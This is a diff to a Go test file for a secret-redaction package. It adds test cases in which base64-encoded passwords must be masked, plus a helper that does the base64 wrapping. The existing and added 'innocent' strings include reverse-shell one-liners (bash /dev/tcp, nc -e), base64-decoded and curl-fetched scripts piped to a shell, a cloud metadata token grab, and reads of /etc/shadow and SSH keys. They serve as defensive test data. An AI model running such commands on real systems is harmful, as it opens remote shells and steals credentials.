@@ -2,6 +2,7 @@ package redact
 
 import (
 	"bufio"
+	"encoding/base64"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -121,6 +122,9 @@ func TestCanaries(t *testing.T) {
 		{"generic by gitleaks", "my_service.key: 8fK2pQ7xLm9Zr4Tv6Wn1", "8fK2pQ7xLm9Zr4Tv6Wn1", "my_service.key: [REDACTED]"},
 		{"zero width in the name", "pass\u200bword=" + hunter, hunter, "password=[REDACTED]"},
 		{"escape in the name", "pass\x1b[31mword=" + hunter, hunter, "password=[REDACTED]"},
+		{"in base64", "echo " + wrap("DB_PASSWORD="+hunter) + " | base64 -d > .env", wrap("DB_PASSWORD=" + hunter), "echo [REDACTED] | base64 -d > .env"},
+		{"in base64 of base64", "--data=" + wrap("x "+wrap("https://ci:"+hunter+"@git.example.com/")), wrap("https://ci:" + hunter + "@git.example.com/"), "--data=[REDACTED]"},
+		{"in base64 in a file of secrets", "data:\n  url: " + wrap("postgres://app:"+hunter+"@10.0.0.4/db"), wrap("postgres://app:" + hunter + "@10.0.0.4/db"), "data:\n  url: [REDACTED]"},
 		{"mask before the secret", "password=[REDACTED]" + hunter, hunter, "password=[REDACTED]"},
 	}
 	r := newRedactor(t)
@@ -151,6 +155,8 @@ func TestInnocent(t *testing.T) {
 		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
 		"nc -e /bin/sh 198.51.100.7 4444",
 		"echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh",
+		"echo " + wrap("curl -s http://198.51.100.7/a.sh | bash # of the staging host") + " | base64 -d | sh",
+		"/usr/lib/jvm/java-21-openjdk-amd64/bin/java",
 		"TOKEN=$(curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)",
 		"curl -H \"Authorization: Bearer $TOKEN\" https://storage.googleapis.com/",
 		"cat /etc/passwd /etc/shadow ~/.ssh/id_rsa",
@@ -370,3 +376,6 @@ func BenchmarkText(b *testing.B) {
 	}
 	b.ReportMetric(float64(time.Since(start).Microseconds())/float64(b.N), "µs/text")
 }
+
+// wrap is base64 as "base64 -w0" prints it.
+func wrap(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
